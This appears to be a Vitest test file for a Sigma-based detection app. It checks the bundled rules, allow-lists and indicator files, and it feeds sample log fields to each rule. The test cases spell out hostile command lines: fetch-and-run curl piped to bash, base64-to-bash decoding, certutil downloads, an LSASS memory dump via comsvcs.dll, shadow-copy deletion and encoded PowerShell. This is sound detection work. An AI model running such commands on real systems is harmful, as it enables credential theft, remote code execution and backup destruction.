import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { detect, parseAllowList, parseRules } from '../../lib/analysis/sigma/index.ts';
import { techniquesOf } from '../../lib/analysis/sigma/rule.ts';
import { packageRoot } from '../../lib/paths.ts';
import { sourceOf, tableFromRows } from '../../lib/tables/index.ts';
import { readIndicatorCsv } from '../../lib/threat-intel/index.ts';

const ROOT = join(packageRoot(), 'content');
const files = (folder: string) =>
  readdirSync(join(ROOT, folder), { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.ya?ml$/.test(name))
    .sort();
const parsed = files('rules').map((name) => parseRules(readFileSync(join(ROOT, 'rules', name), 'utf8'), name));
const rules = parsed.flatMap((file) => file.rules);

describe('the rules that come with the app', () => {
  it('have no mistakes, an id of their own each, a description and a technique', () => {
    expect(parsed.flatMap((file) => file.issues)).toEqual([]);
    expect(rules.length).toBeGreaterThan(60);
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    for (const { id, title, description, tags } of rules) {
      expect(id, title).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
      expect(description.length, title).toBeGreaterThan(15);
      expect(techniquesOf(tags).length, title).toBeGreaterThan(0);
    }
  });

  it('refer to rules that there are', () => {
    const known = new Set(rules.flatMap(({ id, name }) => [id, name]));
    const missing = rules.flatMap((rule) =>
      rule.kind === 'correlation' ? rule.rules.filter((name) => !known.has(name)) : [],
    );
    expect(missing).toEqual([]);
  });
});

/** Lines that a rule must match, and ones like them that it must not. */
const CASES: readonly (readonly [title: string, fields: Record<string, string>, matches: boolean])[] = [
  [
    'PowerShell started with an encoded command',
    { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -e SQBFAFgAIAAoAE4AZQB3AC0A' },
    true,
  ],
  [
    'PowerShell started with an encoded command',
    { Image: 'C:\\w\\PowerShell.exe', CommandLine: 'powershell /EncodedCommand "SQBFAFgAIAAoAE4AZQB3AC0A"' },
    true,
  ],
  [
    'PowerShell started with an encoded command',
    { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -ExecutionPolicy RemoteSignedAndSoOn' },
    false,
  ],
  [
    'PowerShell started with an encoded command',
    { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -encoding utf8 -file x.ps1' },
    false,
  ],
  [
    'PowerShell started hidden with an encoded command',
    { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -noP -sta -w 1 -enc  SQBmACgAJABQAFMAVgBF' },
    true,
  ],
  [
    'PowerShell started hidden with an encoded command',
    { Image: 'C:\\w\\powershell.exe', CommandLine: 'powershell -w normal -enc SQBmACgAJABQAFMAVgBF' },
    false,
  ],
  [
    'LSASS memory opened for reading',
    {
      SourceImage: 'C:\\x\\a.exe',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1410',
      CallTrace: 'a.dll+1',
    },
    true,
  ],
  [
    'LSASS memory opened for reading',
    {
      SourceImage: 'C:\\x\\a.exe',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1FFFFF',
      CallTrace: 'a.dll+1',
    },
    true,
  ],
  [
    'LSASS memory opened for reading',
    {
      SourceImage: 'C:\\x\\a.exe',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1400',
      CallTrace: 'a.dll+1',
    },
    false,
  ],
  [
    'LSASS memory opened for reading',
    {
      SourceImage: 'C:\\x\\a.exe',
      TargetImage: 'C:\\Windows\\System32\\svchost.exe',
      GrantedAccess: '0x1410',
      CallTrace: 'a.dll+1',
    },
    false,
  ],
  [
    'LSASS memory opened for reading',
    {
      SourceImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1410',
      CallTrace: 'a.dll+1',
    },
    false,
  ],
  [
    'LSASS opened for reading by code without a file',
    {
      SourceImage: 'C:\\Windows\\System32\\svchost.exe',
      TargetImage: 'c:\\windows\\system32\\LSASS.exe',
      GrantedAccess: '0x1010',
      CallTrace: 'ntdll.dll+1|UNKNOWN(0001)',
    },
    true,
  ],
  [
    'Process memory dumped with comsvcs.dll',
    { Image: 'C:\\w\\rundll32.exe', CommandLine: 'rundll32 C:\\windows\\system32\\comsvcs.dll, #24 692 a.dmp full' },
    true,
  ],
  [
    'Process memory dumped with comsvcs.dll',
    { Image: 'C:\\w\\rundll32.exe', CommandLine: 'rundll32 comsvcs.dll,DllRegisterServer' },
    false,
  ],
  [
    'Office program started a shell or script host',
    { ParentImage: 'C:\\o\\WINWORD.EXE', Image: 'C:\\w\\cmd.exe', CommandLine: 'cmd' },
    true,
  ],
  [
    'Office program started a shell or script host',
    { ParentImage: 'C:\\o\\WINWORD.EXE', Image: 'C:\\o\\splwow64.exe', CommandLine: 'splwow64' },
    false,
  ],
  [
    'certutil downloads or decodes a file',
    { Image: 'C:\\w\\certutil.exe', CommandLine: 'certutil /urlcache /f http://x.example/a' },
    true,
  ],
  [
    'certutil downloads or decodes a file',
    { Image: 'C:\\w\\certutil.exe', CommandLine: 'certutil -hashfile a SHA256' },
    false,
  ],
  [
    'Scheduled task created to run a script or shell',
    { Image: 'C:\\w\\schtasks.exe', CommandLine: 'schtasks /Create /tn x /tr "powershell -f a.ps1"' },
    true,
  ],
  [
    'Scheduled task created to run a script or shell',
    { Image: 'C:\\w\\schtasks.exe', CommandLine: 'schtasks /query' },
    false,
  ],
  [
    'Files packed with a password or into a staging folder',
    { Image: 'C:\\t\\rar.exe', CommandLine: 'rar.exe a -hpSecret x.rar D:\\f' },
    true,
  ],
  [
    'Files packed with a password or into a staging folder',
    { Image: 'C:\\t\\7z.exe', CommandLine: '7z.exe a -mx5 E:\\Archive\\x.7z D:\\f' },
    false,
  ],
  [
    'Program set to start at logon',
    {
      Image: 'C:\\a.exe',
      TargetObject: 'HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
      Details: 'powershell -f C:\\a.ps1',
    },
    true,
  ],
  [
    'Program set to start at logon',
    {
      Image: 'C:\\a.exe',
      TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
      Details: '"C:\\Program Files\\App\\app.exe"',
    },
    false,
  ],
  [
    'Shadow copies or backups deleted',
    { Image: 'C:\\w\\cmd.exe', CommandLine: 'cmd /c vssadmin.exe delete shadows /all /quiet' },
    true,
  ],
  [
    'Linux log shows a script fetched and run',
    { SyslogMessage: 'COMMAND=/bin/bash -c curl -s http://x.example/a | bash' },
    true,
  ],
  [
    'Linux log shows a script fetched and run',
    { SyslogMessage: 'COMMAND=/usr/bin/curl http://x.example/a -o a' },
    false,
  ],
  [
    'Linux command that fetches or decodes a script and runs it',
    { Image: '/bin/bash', CommandLine: 'bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}' },
    true,
  ],
  [
    'Linux command that fetches or decodes a script and runs it',
    { Image: '/usr/bin/base64', CommandLine: 'base64 -d backup.b64' },
    false,
  ],
  [
    'Web server started a shell',
    { ParentImage: '/usr/lib/jvm/bin/java', Image: '/bin/bash', CommandLine: 'bash', User: 'tomcat' },
    true,
  ],
  [
    'Web server started a shell',
    { ParentImage: '/usr/lib/jvm/bin/java', Image: '/bin/bash', CommandLine: 'bash', User: 'developer' },
    false,
  ],
];

describe('each rule', () => {
  it.each(CASES)('%s: %j is %s', async (title, fields, expected) => {
    const names = ['Computer', 'ParentImage', ...Object.keys(fields)].filter((name, i, all) => all.indexOf(name) === i);
    const schema = names.map((name) => ({ name, type: 'string' as const }));
    const table = tableFromRows(schema, [names.map((name) => fields[name] ?? 'x')]);
    const { matches } = await detect(rules, [sourceOf(table)]);
    expect(matches.some(({ rule }) => rule.title === title)).toBe(expected);
  });
});

it('the allow-lists have no mistakes and name rules that there are', () => {
  const ids = new Set(rules.map(({ id }) => id));
  for (const name of files('allow-lists')) {
    const { entries, issues } = parseAllowList(readFileSync(join(ROOT, 'allow-lists', name), 'utf8'), name);
    expect(issues).toEqual([]);
    expect(entries.flatMap((entry) => entry.rules).filter((id) => !ids.has(id))).toEqual([]);
  }
});

it('the indicator files have no mistakes', async () => {
  for (const name of readdirSync(join(ROOT, 'indicators'))) {
    const { indicators, problems } = await readIndicatorCsv(readFileSync(join(ROOT, 'indicators', name), 'utf8'), name);
    expect(problems).toEqual([]);
    expect(indicators.length).toBeGreaterThan(0);
  }
});
